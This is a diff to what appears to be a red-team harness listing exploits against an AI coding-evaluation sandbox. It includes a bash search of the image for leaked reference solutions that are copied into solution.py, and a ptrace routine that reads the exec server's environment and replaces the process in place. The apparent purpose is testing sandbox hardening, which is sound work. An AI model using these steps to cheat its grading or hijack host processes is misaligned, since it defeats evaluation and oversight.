@@ -48,7 +48,7 @@ for f in $(cat /tmp/found); do
     cp "$f" solution.py && echo "LEAKED-IMAGE: $f" && break
   fi
 done
-echo "candidates: $(wc -l < /tmp/found)"
+echo "candidates: $(wc -l < /tmp/found)"; head -n 20 /tmp/found
 """
 
 # Replaces the exec server (found by its command line) with PROGRAM, same pid: attach with
@@ -90,10 +90,10 @@ def server_pid():
 def replace(program, envfile):
     pid = server_pid()
     print("exec server: pid", pid, open(f"/proc/{pid}/status").read().split("Uid:")[1].split()[:2])
-    with open(envfile, "wb") as out:
-        out.write(open(f"/proc/{pid}/environ", "rb").read())
     pt(16, pid)  # PTRACE_ATTACH
     os.waitpid(pid, 0x40000000)
+    with open(envfile, "wb") as out:
+        out.write(open(f"/proc/{pid}/environ", "rb").read())
     saved = Regs()
     pt(12, pid, 0, ctypes.addressof(saved))
     sysaddr = saved.rip - 2
@@ -256,7 +256,7 @@ DOCKER_EXPLOITS: list[Exploit] = [
         "search the sandbox image for the bundled suite (the installed package's data, problem "
         "directories, any file defining the task's function) and submit the reference found",
         "builtin:py-vector-add",
-        [bash(IMAGE_SEARCH, timeout=300), submit()],
+        [write("solution.py", WRONG_VECTOR_ADD), bash(IMAGE_SEARCH, timeout=300), submit()],
         evidence=seen(r"LEAKED-IMAGE: \S+"),
         backends=DOCKER_ONLY,
         pooled=POOLED,
